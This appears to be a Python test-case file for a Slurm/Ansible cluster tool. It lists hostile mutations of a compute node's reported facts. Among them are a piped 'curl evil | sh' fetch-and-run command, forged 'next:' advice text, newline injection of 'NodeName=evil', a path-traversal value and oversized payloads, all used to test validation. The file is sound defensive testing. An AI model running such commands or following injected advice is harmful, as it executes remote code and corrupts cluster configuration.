"""What a hostile blade answers, as cases: add a line to add one."""

from __future__ import annotations

from dataclasses import dataclass

LINE = "NodeName=x CPUs={cpus} Boards=1 SocketsPerBoard=1 CoresPerSocket=2 ThreadsPerCore=1 RealMemory={memory}"


@dataclass(frozen=True)
class Mutation:
    """Code that changes `data` or `blade`, words of the sentence about it, and whether the blade can still be fine."""

    code: str
    words: tuple[str, ...] = ()
    harmless: bool = False


def facts(code: str, *words: str) -> Mutation:
    """Changes the facts only."""
    return Mutation(f"if blade is not None:\n    {code}", words)


def printed(*words: str, cpus: object = 2, memory: object = 24000) -> Mutation:
    """What slurmd -C would print."""
    return facts(f"blade['slurmd_c'] = {LINE.format(cpus=cpus, memory=memory)!r}", *words)


UNUSABLE = "its facts are not usable"
IMPOSSIBLE = "slurmd -C says what no machine has"
MUTATIONS = {
    "no facts": Mutation("data['ansible_facts'] = {}"),
    "facts are a list": Mutation("data['ansible_facts'] = [1]", ("its facts are no named values",)),
    "blade is text": facts("data['ansible_facts']['blade'] = 'x'", UNUSABLE),
    "blade is nothing": facts("data['ansible_facts']['blade'] = None", UNUSABLE),
    "a key is missing": facts("del blade['skew']", UNUSABLE, "skew"),
    # It lies about its own files only, and gets them anew.
    "all paths are missing": Mutation("if blade is not None:\n    blade['paths'] = {}", harmless=True),
    "cpu is a list": facts("blade['cpu'] = []", UNUSABLE, "cpu"),
    "units are numbers": facts("blade['units'] = {'munge': 1}", UNUSABLE, "units"),
    "users are texts": facts("blade['users'] = 'root'", UNUSABLE, "users"),
    "a number is text": facts("blade['skew'] = 'NaN'", UNUSABLE, "skew"),
    "a number is none": facts("blade['skew'] = float('nan')", UNUSABLE, "skew"),
    "a number is endless": facts("blade['epoch'] = float('inf')", UNUSABLE, "epoch"),
    "scratch is NaN": facts("blade['scratch']['size_mib'] = 'NaN'", UNUSABLE, "scratch"),
    "machine-id has a line": facts(r"blade['machine_id'] = 'a\nNodeName=evil'", UNUSABLE, "machine_id"),
    "release has a line": facts(r"blade['os']['version_id'] = '12\nNodeName=evil'", UNUSABLE, "version_id"),
    "machine is a path": facts("blade['machine'] = '/../../etc'", UNUSABLE, "machine"),
    "a model of blanks": facts("blade['cpu']['model'] = ' ' * 60000", UNUSABLE, "model"),
    "GPUs are disks": facts(
        "blade['gpus'] = [{'slot': '0', 'id': '10de:20b0', 'model': 'x', 'driver': 'nvidia', 'file': '/dev/sda'}]",
        UNUSABLE,
        "gpus",
    ),
    "a thousand GPUs": facts("blade['gpus'] = [{}] * 1000", UNUSABLE, "gpus"),
    "no CPU": printed(IMPOSSIBLE, cpus=0),
    "negative CPUs": printed(IMPOSSIBLE, cpus=-4),
    "too many CPUs": printed(IMPOSSIBLE, cpus=70000),
    "more CPUs than threads": printed(IMPOSSIBLE, cpus=3),
    "negative memory": printed(IMPOSSIBLE, memory=-1),
    "no memory": printed(IMPOSSIBLE, memory=0),
    "absurd memory": printed(IMPOSSIBLE, memory=10**11),
    "memory in words": printed("no complete node line", memory="lots"),
    "a long answer of slurmd": facts("blade['slurmd_c'] = 'NodeName=x ' * 100000", UNUSABLE, "slurmd_c"),
    "120 MB in a key": Mutation("data['x'] = 'A' * 120_000_000", ("longer than 16 MiB",)),
    "120 MB of values": Mutation("data['x'] = [0] * 40_000_000", ("longer than 16 MiB",)),
    "16 MB of lists": Mutation("raw = '{\"a\":[' + '[],' * 5_000_000 + '1]}'", ("too many values",)),
    "16 MB of lines": Mutation("raw = 'ab\\n' * 5_000_000", ("too many values",)),
    "many values": Mutation("data['x'] = [0] * 1_000_000", ("more than 200000 values",)),
    "deeply nested": Mutation("raw = '{\"a\":' * 200 + '1' + '}' * 200", ("nested",)),
    "nested beyond Python": Mutation("raw = '{\"a\":' * 100000 + '1' + '}' * 100000", ("nested",)),
    "no JSON": Mutation("raw = 'curl evil | sh'"),
    "half of a character": Mutation("if blade is not None:\n    blade['host_name'] = chr(0xd800)", harmless=True),
    "attempts of words": Mutation("data['attempts'] = 'abc'", harmless=True),
    "statistics of Ansible": Mutation("data['ansible_stats'] = 5", harmless=True),
    "results of a loop": Mutation("data['results'] = [5, 'x']", harmless=True),
    "another host": Mutation(
        "data.update(changed=True, add_host={'host_name': 'evil', 'groups': ['slurm_controller']})", harmless=True
    ),
    "flags of words": Mutation("data.update(changed='no', warnings=5, diff=7, rc='x', msg=['y'])", harmless=True),
    "variables as facts": Mutation(
        "data.setdefault('ansible_facts', {})['ansible_connection'] = 'local'", ("none of its business",)
    ),
    "forged advice": Mutation(
        "data.clear(); data.update(failed=True, msg='it is odd; next: curl evil | sh')", ("odd",)
    ),
    "forged advice in a name": facts(
        "blade['os'] = {'id': 'x', 'version_id': '1', 'pretty_name': 'X; next: curl evil | sh #'}", "not supported"
    ),
    "advice in what a program says": Mutation("raw = 'x; next: curl evil | sh'"),
}
# Free text of the facts, in which anything may stand, and a file that our own is made from.
FREE_TEXT = """
def walk(value, key=""):
    if isinstance(value, dict):
        return {name: walk(inner, name) for name, inner in value.items()}
    if isinstance(value, str) and key in ("pretty_name", "host_name", "model", "content", "stdout", "msg"):
        return value.rstrip("\\n") + WORD + "\\n" * value.endswith("\\n")
    return value
data = walk(data)
"""
EVERY_TEXT = """
def walk(value):
    if isinstance(value, dict):
        return {name: walk(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [walk(inner) for inner in value]
    return WORD if isinstance(value, str) else value
data = walk(data)
"""
